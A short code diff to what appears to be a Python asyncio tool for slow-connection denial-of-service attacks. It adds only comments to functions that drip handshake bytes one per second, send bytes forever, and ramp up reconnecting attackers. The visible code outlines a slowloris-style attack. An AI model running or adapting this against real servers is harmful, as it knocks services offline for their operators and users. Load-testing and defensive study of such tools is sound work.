@@ -50,14 +50,14 @@ async def hello_by_bytes(writer: asyncio.StreamWriter) -> None:
     """Begin a handshake at a byte a second."""
     for each in HELLO:
         writer.write(bytes([each]))
-        await asyncio.sleep(1)
+        await asyncio.sleep(1)  # the pace of the attack
 
 
 async def bytes_for_ever(writer: asyncio.StreamWriter) -> None:
     """Send a byte a second."""
     while True:
         writer.write(b"x")
-        await asyncio.sleep(1)
+        await asyncio.sleep(1)  # the pace of the attack
 
 
 KINDS: dict[str, tuple[list[Callable[[asyncio.StreamWriter], Awaitable[None]]], bool]] = {
@@ -81,7 +81,7 @@ class Attack:
 
     async def attacker(self, number: int) -> None:
         """Come, be cut off, come again; each a bit later than the one before it."""
-        await asyncio.sleep(number * self._ramp / self._count)
+        await asyncio.sleep(number * self._ramp / self._count)  # the pace of coming
         way = self._ways[number % len(self._ways)]
         context = CONTEXT if self._tls else None
         while True:
